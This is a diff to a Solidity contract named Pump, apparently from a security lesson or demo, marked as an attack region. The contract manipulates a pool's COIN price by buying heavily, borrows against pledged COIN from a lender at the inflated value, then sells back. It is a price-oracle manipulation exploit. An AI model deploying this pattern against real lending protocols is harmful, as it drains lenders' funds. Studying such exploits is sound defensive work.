@@ -10,15 +10,15 @@ interface ILender {
 
 // #region attack
 contract Pump {
-    /// Buys COIN until it looks expensive, borrows against a little of it, sells the rest again.
-    function attack(Pool pool, ILender lender, uint256 pledge) external payable {
+    /// Buys COIN until it looks expensive, pledges some that it had before, borrows, and sells what it bought.
+    function attack(Pool pool, ILender lender, uint256 pledge, uint256 loan) external payable {
         uint256 before = pool.COIN().balanceOf(address(this));
         pool.buyCoin{value: msg.value}();
         uint256 bought = pool.COIN().balanceOf(address(this)) - before;
         _onceBought(pool);
 
         pool.COIN().approve(address(lender), pledge);
-        lender.borrow(pledge, address(lender).balance);
+        lender.borrow(pledge, loan);
 
         pool.COIN().approve(address(pool), bought);
         pool.sellCoin(bought);
